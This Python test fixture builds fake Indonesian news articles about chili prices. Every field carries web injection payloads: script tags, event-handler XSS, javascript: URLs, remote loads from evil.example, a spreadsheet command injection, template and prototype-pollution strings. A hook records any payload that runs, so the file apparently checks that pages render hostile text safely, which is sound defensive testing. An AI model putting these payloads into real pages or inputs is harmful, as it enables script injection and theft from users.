"""Texts that mean harm. Where one of them is taken for more than text, the page shows it: see `WATCH`."""

from datetime import date

from corpus import Article

# Runs before every script of the page: what the payloads reach for, and what they leave behind.
WATCH = "window.hurt = []; window.hurtful = (number) => window.hurt.push(number);"

# {n} is the number of the payload.
TEMPLATES = (
    "<script>hurtful({n})</script>",
    "<script src='http://evil.example/{n}.js'></script>",
    "<img src=http://evil.example/{n} onerror=hurtful({n})>",
    "<img src=x onerror='document.title=\"hurt {n}\"'>",
    "<svg onload=hurtful({n})></svg>",
    "<svg><script>hurtful({n})</script></svg>",
    "<svg><animate onbegin=hurtful({n}) attributeName=x dur=1s></svg>",
    "<svg><use href='http://evil.example/{n}.svg#x'/></svg>",
    "<svg><a xlink:href='javascript:hurtful({n})'><text y=20>klik</text></a></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=hurtful({n})></style></mglyph></mtext></math>",
    "<iframe src='http://evil.example/{n}'></iframe>",
    "<iframe srcdoc='<script>parent.hurtful({n})</script>'></iframe>",
    "<object data='http://evil.example/{n}'></object>",
    "<embed src='http://evil.example/{n}'>",
    "<video src='http://evil.example/{n}' onerror=hurtful({n}) autoplay></video>",
    "<audio src='http://evil.example/{n}' autoplay></audio>",
    "<link rel=stylesheet href='http://evil.example/{n}.css'>",
    "<style>@import url('http://evil.example/{n}.css'); body {{ background: url('http://evil.example/{n}.png') }}</style>",
    "<style>@font-face {{ font-family: n; src: url('http://evil.example/{n}.woff') }} * {{ font-family: n }}</style>",
    "<div style='background:url(http://evil.example/{n})'>x</div>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/{n}'>",
    "<base href='http://evil.example/{n}/'>",
    "<form action='http://evil.example/{n}'><input autofocus onfocus=hurtful({n})><button>kirim</button></form>",
    "<details open ontoggle=hurtful({n})><summary>x</summary></details>",
    "<input autofocus onfocus=hurtful({n})>",
    "<marquee onstart=hurtful({n})>x</marquee>",
    "<body onload=hurtful({n})>",
    "<a href='javascript:hurtful({n})'>klik</a>",
    "<a href='data:text/html,<script>opener.hurtful({n})</script>' ping='http://evil.example/{n}'>klik</a>",
    "\"><img src=x onerror=hurtful({n})>",
    "'><img src=x onerror=hurtful({n})>",
    "\" onmouseover=\"hurtful({n})\" autofocus onfocus=\"hurtful({n})\" x=\"",
    "' onmouseover='hurtful({n})' autofocus onfocus='hurtful({n})' x='",
    "</script><script>hurtful({n})</script>",
    "</textarea></title></style></blockquote></details></section></article><img src=x onerror=hurtful({n})>",
    "--><!--><img src=x onerror=hurtful({n})>",
    "<![CDATA[<img src=x onerror=hurtful({n})>]]>",
    "&lt;img src=x onerror=hurtful({n})&gt; &#60;img src=x onerror=hurtful({n})&#62;",
    "\\u003cimg src=x onerror=hurtful({n})\\u003e \\x3cimg src=x onerror=hurtful({n})\\x3e",
    "![foto](http://evil.example/{n}.png) ![][r]\n\n[r]: http://evil.example/{n}r.png",
    "[klik](javascript:hurtful({n})) <javascript:hurtful({n})> [x](data:text/html,x)",
    "`kode` ```html\n<img src=x onerror=hurtful({n})>\n```",
    "$$\\href{{javascript:hurtful({n})}}{{x}} \\includegraphics{{http://evil.example/{n}.png}}$$",
    "\\(\\htmlData{{x=1}}{{y}}\\url{{javascript:hurtful({n})}}\\) \\[\\def\\x{{\\x\\x}}\\x\\]",
    "${{hurtful({n})}} `${{hurtful({n})}}` #{{hurtful({n})}}",
    "{{{{constructor.constructor('hurtful({n})')()}}}} {{{{#with this}}}}{{{{lookup . 'x'}}}}{{{{/with}}}} {{% include x %}}",
    "<%= hurtful({n}) %> {{@html '<img src=x onerror=hurtful({n})>'}}",
    "=HYPERLINK(\"http://evil.example/{n}\";\"klik\") +cmd|' /C calc'!A0 @SUM(1+1) -2+3",
    "\u202e\u2066<img src=x onerror=hurtful({n})>\u2069\u202c \u200f\u061c",
    "\u0000<img src=x onerror=hurtful({n})>\u0007\u001b]0;hurt\u0007\u2028\u2029\ufeff",
    "W" * 4000 + "{n}",
    "e" + "\u0301" * 500 + "{n}",
    "[1] [2] [99] [1](javascript:hurtful({n})) [<img src=x onerror=hurtful({n})>]",
    "__proto__ constructor {{\"__proto__\": {{\"x0wned\": {n}}}}}",
    "<img srcset='http://evil.example/{n} 1x'><picture><source srcset='http://evil.example/{n}s'><img></picture>",
    "<template><img src=x onerror=hurtful({n})></template><noscript><p title=\"</noscript><img src=x onerror=hurtful({n})>\">",
)  # fmt: skip
PAYLOADS = tuple(template.format(n=number) for number, template in enumerate(TEMPLATES))
URLS = (
    "javascript:hurtful(900)",
    "JaVaScRiPt:hurtful(901)",
    "java\tscript:hurtful(902)",
    " javascript:hurtful(903)",
    "data:text/html,<script>opener.hurtful(904)</script>",
    "vbscript:hurtful(905)",
    "//evil.example/906",
    "https://news.example/\" onmouseover=\"hurtful(907)",
    "https://news.example/'><img src=x onerror=hurtful(908)>",
)  # fmt: skip
# A word of its own for each article, by which a question finds it.
_PLACES = "Naga Kembar,Batu Gajah,Sungai Pinang,Lubuk Buaya,Tanah Merah,Kayu Putih,Bukit Tua,Air Hitam,Pulau Kelapa,Gunung Sari"


def hostile_articles() -> list[Article]:
    """Ten articles that carry every payload in their text, and some in whatever else an article has."""
    places = _PLACES.split(",")
    return [_article(number, place, PAYLOADS[number :: len(places)]) for number, place in enumerate(places)]


def questions() -> list[str]:
    return [f"Berapa harga cabai keriting di Pasar {place}?" for place in _PLACES.split(",")]


def _article(number: int, place: str, harm: tuple[str, ...]) -> Article:
    short = [each for each in harm if len(each) < 300]
    return Article(
        id=f"jahat/{number} {short[0]}",
        source=f"/srv/jahat/{number} {short[-1]}.txt",
        title=f"Harga cabai keriting di Pasar {place} {short[0]} {short[1]}",
        text=f"Harga cabai keriting di Pasar {place} mencapai Rp {91 + number}.500 per kilogram {short[2]} kata Kepala Pasar "
        f"{place}, Sutan {short[3]}.\n\nPedagang di Pasar {place} berharap harga cabai segera turun. {' '.join(harm)}",
        published=date(2025, 9, 1 + number),
        outlet=f"Koran {number} {short[-2]}",
        authors=(short[0], short[-1]),
        url=URLS[number % len(URLS)],
    )
